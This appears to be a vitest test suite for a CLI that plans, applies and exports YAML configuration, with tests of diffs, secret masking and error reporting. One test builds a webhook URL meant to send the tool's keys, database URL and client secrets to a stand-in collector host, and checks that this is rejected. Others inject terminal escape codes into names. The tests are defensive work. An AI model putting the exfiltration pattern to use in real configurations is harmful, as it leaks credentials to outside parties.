import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import type { Document } from '../../src/core/configuration/document.ts';
import { createKey } from '../../src/services/identity/keys.ts';
import { testDatabase, testService } from '../support/database.ts';
import { everything, exampleText, run, webhookSecret, writeTemporary } from '../support/declarative.ts';
import { runSql } from '../support/sql.ts';

const variable = (name: string) => `\${env:${name}}`;

let runtime: Awaited<ReturnType<typeof testDatabase>>;
beforeAll(async () => {
  runtime = await testDatabase();
});
afterAll(() => runtime.close());

/** Writes the example with one line changed and returns the file name. */
async function changed(from: string, to: string, name = 'acme.yaml'): Promise<string> {
  const text = await exampleText();
  expect(text).toContain(from);
  return writeTemporary(name, text.replace(from, to));
}

describe('plan and apply', () => {
  test('show the changes, make them, and then have no changes', async () => {
    const file = await changed('slug: acme', 'slug: texts');
    const planned = await run(runtime.deps, ['plan', file]);
    expect(planned).toEqual({
      code: 0,
      err: '',
      out: `+ organization texts
+ channel texts/mail
+ channel texts/hooks
+ user texts/jane@acme.test
+ address texts/jane@acme.test/phone/+15555550100
+ project texts/shop
+ list texts/shop/Customers
+ member texts/shop/Customers/jane@acme.test
+ application texts/shop/web
+ event texts/shop/web/order-paid
+ notification texts/shop/web/order-paid/receipt

Plan: 11 to create, 0 to change, 0 to delete.
`,
    });
    const applied = await run(runtime.deps, ['apply', file]);
    expect(applied.out).toContain('Applied: 11 created, 0 changed, 0 deleted.');
    expect((await run(runtime.deps, ['apply', file])).out).toBe('No changes.\n');
    expect((await run(runtime.deps, ['plan', file, '--prune'])).out).toBe('No changes.\n');
  });

  test('show each changed field, mask secrets, and show deletions', async () => {
    await run(runtime.deps, ['apply', await changed('slug: acme', 'slug: fields')]);
    const text = (await exampleText())
      .replace('slug: acme', 'slug: fields')
      .replace('name: Order paid', 'name: "Paid\\e[31m"')
      .replace('port: 2525', 'port: 25')
      .replace(webhookSecret, `whsec_${'C'.repeat(32)}`)
      .replace('members: [jane@acme.test]', 'members: []');
    const file = await writeTemporary('acme.yaml', text);
    const { out } = await run(runtime.deps, ['plan', file, '--prune']);
    expect(out).toBe(`~ channel fields/mail
    providers.0.port: 2525 → 25
~ channel fields/hooks
    providers.0.secret: (secret) → (secret)
~ event fields/shop/web/order-paid
    name: "Order paid" → "Paid\\u001b[31m"
- member fields/shop/Customers/jane@acme.test

Plan: 0 to create, 3 to change, 1 to delete.
`);
  });

  test('use colors only on a terminal', async () => {
    const file = await changed('slug: acme', 'slug: colours');
    expect((await run(runtime.deps, ['plan', file], {}, true)).out).toContain(
      '\u001b[32m+ organization colours\u001b[39m',
    );
    expect((await run(runtime.deps, ['plan', file])).out).not.toContain('\u001b');
  });

  test('escape control characters in names', async () => {
    const file = await changed('name: Customers', 'name: "Cust\\e[2Jomers"\n          - name: Customers');
    expect((await run(runtime.deps, ['plan', file])).out).toContain('list acme/shop/Cust\\u001b[2Jomers\n');
  });

  test('print JSON with --json', async () => {
    const file = await changed('slug: acme', 'slug: machines');
    const { changes } = JSON.parse((await run(runtime.deps, ['plan', file, '--json'])).out);
    expect(changes[0]).toEqual({ action: 'create', noun: 'organization', path: 'machines', fields: [] });
  });

  test('require an existing file', async () => {
    expect((await run(runtime.deps, ['apply'])).err).toContain('name at least one file');
    expect((await run(runtime.deps, ['apply', 'nowhere.yaml'])).err).toContain(
      'nowhere.yaml cannot be read: file not found',
    );
  });
});

describe('a mistake', () => {
  test.each<[what: string, from: string, to: string, place: string, message: RegExp]>([
    ['of syntax', 'name: Acme', 'name: [Acme', '4:5', /Flow sequence/],
    ['of a mistyped field', 'name: Acme', 'nmae: Acme', '3:5 organizations/0/nmae:', /not a known field/],
    ['of a missing field', 'name: Acme', '', '2:5 organizations/0/name:', /is required/],
    ['of a wrong value', 'type: webhook', 'type: pigeon', '16:9 organizations/0/channels/1/type:', /must be one of/],
    [
      'of a provider',
      'port: 2525',
      'prot: 2525',
      '12:13 organizations/0/channels/0/providers/0/prot:',
      /not a known field/,
    ],
    [
      'in a flow',
      'value: "+15555550100"',
      'value: "12"',
      '27:28 organizations/0/users/0/addresses/0/value:',
      /phone number/,
    ],
    [
      'in a list',
      'channels: [mail, hooks]',
      'channels: [mail, hoks]',
      '45:38 organizations/0/projects/0/applications/0/events/0/notifications/0/channels/1:',
      /no channel/,
    ],
    [
      'in a template',
      'we got **{{ amount }}**',
      'we got **{{ amount | monney }}**',
      '50:23 organizations/0/projects/0/applications/0/events/0/notifications/0/message/body: line 1, column 39:',
      /there is no filter "monney"/,
    ],
    ['of a key twice', 'name: Acme', 'name: Acme\n    name: Acme', '4:5', /unique/],
  ])('%s is reported by file, line, column and field, and nothing is applied', async (_, from, to, place, message) => {
    const text = (await exampleText()).replace('slug: acme', 'slug: mistaken').replace(from, to);
    const file = await writeTemporary('acme.yaml', text);
    const { code, out, err } = await run(runtime.deps, ['apply', file]);
    expect({ code, out }).toEqual({ code: 1, out: '' });
    expect(err).toContain(`${file}:${place}`);
    expect(err).toMatch(message);
    expect(await runSql(runtime.url, `select 1 from organizations where slug = 'mistaken'`)).toEqual([]);
  });

  test('does not hide those of other files', async () => {
    const first = await changed('type: webhook', 'type: pigeon', 'first.yaml');
    const text = (await exampleText())
      .replace('email: jane@acme.test', 'email: jane')
      .replace('amount > `0`', 'amount >');
    const second = await writeTemporary('second.yaml', text);
    const { err } = await run(runtime.deps, ['apply', first, second]);
    const lines = err.split('\n').slice(1);
    expect(lines.map(line => line.replace(/^.*\/(\w+\.yaml:\d+:\d+) .*$/, '$1'))).toEqual([
      'first.yaml:16:9',
      'second.yaml:2:5',
      'second.yaml:22:9',
      'second.yaml:34:23',
      'second.yaml:46:21',
    ]);
    expect(err).toContain(`organizations/0/slug: "acme" is duplicated, first used at ${first} organizations/0`);
  });

  test('is reported at most twenty times', async () => {
    const users = Array.from({ length: 50 }, (_, i) => `      - email: "${i}"`).join('\n');
    const file = await writeTemporary(
      'many.yaml',
      `organizations:\n  - slug: many\n    name: Many\n    users:\n${users}\n`,
    );
    const { err } = await run(runtime.deps, ['apply', file]);
    expect(err.split('\n')).toHaveLength(21);
  });

  test.each(['', 'hello', '[]', 'organizations:', 'orgs: []', '---\na: 1\n---\nb: 2\n'])(
    'is reported for a file with the content %j',
    async text => {
      const { code, err } = await run(runtime.deps, ['apply', await writeTemporary('odd.yaml', text)]);
      expect(code).toBe(1);
      expect(err).toMatch(/odd\.yaml:\d+:\d+ /);
    },
  );
});

describe('a variable', () => {
  test('in a provider field is read from the environment', async () => {
    const text = (await exampleText())
      .replace('slug: acme', 'slug: variables')
      .replace(webhookSecret, variable('HOOK_SECRET'))
      .replace('port: 2525', `port: ${variable('SMTP_PORT')}`);
    const file = await writeTemporary('acme.yaml', text);
    const env = { HOOK_SECRET: webhookSecret, SMTP_PORT: '2500' };
    expect((await run(runtime.deps, ['apply', file], env)).code).toBe(0);
    const { out } = await run(runtime.deps, ['export', 'variables']);
    expect(out).toContain('port: 2500');
    expect((await run(runtime.deps, ['apply', file], env)).out).toBe('No changes.\n');
  });

  test('that is not set is reported with line and field', async () => {
    const file = await changed(webhookSecret, variable('NOWHERE'));
    const { err } = await run(runtime.deps, ['apply', file]);
    expect(err).toContain(
      `${file}:20:13 organizations/0/channels/1/providers/0/secret: the environment variable NOWHERE is not set`,
    );
  });

  test('is not replaced in other fields', async () => {
    const file = await changed('name: Shop', `name: ${variable('NOWHERE')}`);
    expect((await run(runtime.deps, ['plan', file])).code).toBe(0);
  });
});

describe('export', () => {
  test('prints YAML without secrets that applies without changes', async () => {
    await run(runtime.deps, ['apply', await changed('slug: acme', 'slug: exported')]);
    const { out } = await run(runtime.deps, ['export', 'exported']);
    expect(out).not.toContain('whsec');
    const file = await writeTemporary('out.yaml', out);
    expect((await run(runtime.deps, ['apply', file, '--prune'])).out).toBe('No changes.\n');
    const { out: json } = await run(runtime.deps, ['export', 'exported', '--json']);
    expect(parse(out)).toEqual(JSON.parse(json));
  });

  test('without a name prints every organization, in a stable order', async () => {
    const first = await run(runtime.deps, ['export']);
    expect((parse(first.out) as Document).organizations.map(({ slug }) => slug)).toContain('exported');
    expect(await run(runtime.deps, ['export'])).toEqual(first);
  });
});

describe('with a server', () => {
  let service: Awaited<ReturnType<typeof testService>>;
  let env: Record<string, string>;
  beforeAll(async () => {
    service = await testService({ BELFRY_ROLE: 'api' });
    const { deps } = service.runtime;
    const file = await writeTemporary(
      'first.yaml',
      'organizations: [{ slug: acme, name: First }, { slug: other, name: Other }]',
    );
    await run(deps, ['apply', file]);
    const { key } = await createKey(deps, 'acme', { name: 'all', permissions: ['*'] });
    env = { BELFRY_URL: service.address, BELFRY_KEY: key };
  });
  afterAll(() => service.stop());

  const example = 'test/support/acme.yaml';
  const remotely = (args: Parameters<typeof run>[1]) => run(undefined, args, env);

  test('the commands do the same', async () => {
    const planned = await remotely(['plan', example]);
    expect(planned.err).toBe('');
    expect(planned.out).toContain('    name: "First" → "Acme"\n');
    expect(planned.out).toContain('Plan: 10 to create, 1 to change, 0 to delete.');
    expect((await remotely(['apply', example])).out).toContain('Applied: 10 created, 1 changed, 0 deleted.');
    expect((await remotely(['apply', example, '--prune'])).out).toBe('No changes.\n');
    const { out } = await remotely(['export', 'acme']);
    expect(out).toBe((await run(service.runtime.deps, ['export', 'acme'])).out);
    expect(out).not.toContain('whsec');
  });

  test('mistakes are reported by line as well', async () => {
    const form = await changed('type: webhook', 'type: pigeon');
    expect((await remotely(['apply', form])).err).toContain(
      `${form}:16:9 organizations/0/channels/1/type: must be one of`,
    );
    const meaning = await changed('amount > `0`', 'amount >');
    expect((await remotely(['plan', meaning])).err).toMatch(/acme\.yaml:46:21 .*\/filter: is not a JMESPath/);
  });

  test('an organization that the key cannot access is not found, and nothing before it is applied', async () => {
    const text = `${(await exampleText()).replace('name: Acme', 'name: Changed')}  - { slug: other, name: Taken over }\n`;
    const { code, err } = await remotely(['apply', await writeTemporary('two.yaml', text)]);
    expect(code).toBe(1);
    expect(err).toContain('other');
    expect((await remotely(['export', 'acme'])).out).toContain('name: Acme\n');
  });

  test('every field can be applied and exported', async () => {
    const file = await writeTemporary('all.json', JSON.stringify({ organizations: [everything('acme')] }));
    expect((await remotely(['apply', file])).err).toBe('');
    expect((await remotely(['apply', file])).out).toBe('No changes.\n');
    const { out } = await remotely(['export', 'acme']);
    expect(out).toBe((await run(service.runtime.deps, ['export', 'acme'])).out);
    expect(out).toContain('pt-BR');
  });

  test.each([
    'BELFRY_KEY',
    'BELFRY_SECRET_KEY',
    'DATABASE_URL',
    'METRICS_TOKEN',
    'OIDC_CLIENT_SECRET',
    'OTEL_EXPORTER_OTLP_HEADERS',
  ])('a file cannot send %s, a setting of Belfry, to a server that it names', async name => {
    const url = `https://collector.test/?stolen=${variable(name)}`;
    const providers = [{ use: 'standard-webhooks', url }];
    const channels = [{ slug: 'out', name: 'Out', type: 'webhook', providers }];
    const organizations = [{ slug: 'acme', name: 'Acme', channels }];
    const file = await writeTemporary('stealing.json', JSON.stringify({ organizations }));
    const secret = 'hunter2'.repeat(8);
    const { code, err, out } = await run(undefined, ['plan', file], {
      // Settings that are only valid together with others.
      ...{
        OIDC_ISSUER: 'https://id.test',
        OIDC_CLIENT_ID: 'belfry',
        OIDC_CLIENT_SECRET: secret,
        BELFRY_SECRET_KEY: secret,
      },
      [name]: name === 'DATABASE_URL' ? 'postgres://a:hunter2@127.0.0.1:1/x' : secret,
      ...env,
    });
    expect([code, err]).toEqual([1, expect.stringContaining(`${name} is a setting of Belfry itself`)]);
    expect(err + out).not.toContain('hunter2');
  });

  test('an export requires a name', async () => {
    expect((await remotely(['export'])).err).toContain('name the organization');
  });

  test('the path and the document must name the same organization, and each operation requires its permission', async () => {
    const post = async (verb: string, key: string, body: unknown) => {
      const response = await fetch(`${service.address}/api/o/acme/configuration/${verb}/`, {
        method: 'POST',
        headers: { authorization: `Key ${key}`, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      return { status: response.status, body: (await response.json()) as { errors?: unknown; code?: string } };
    };
    const other = await post('apply', env.BELFRY_KEY!, { organization: { slug: 'other', name: 'X' } });
    expect(other.status).toBe(400);
    expect(Object.keys(other.body.errors as object)).toEqual(['organization/slug']);

    const { key: reader } = await createKey(service.runtime.deps, 'acme', {
      name: 'r',
      permissions: ['configuration:read'],
    });
    const same = { organization: { slug: 'acme', name: 'Acme' } };
    expect((await post('plan', reader, same)).status).toBe(200);
    expect((await post('apply', reader, same)).status).toBe(403);
  });
});
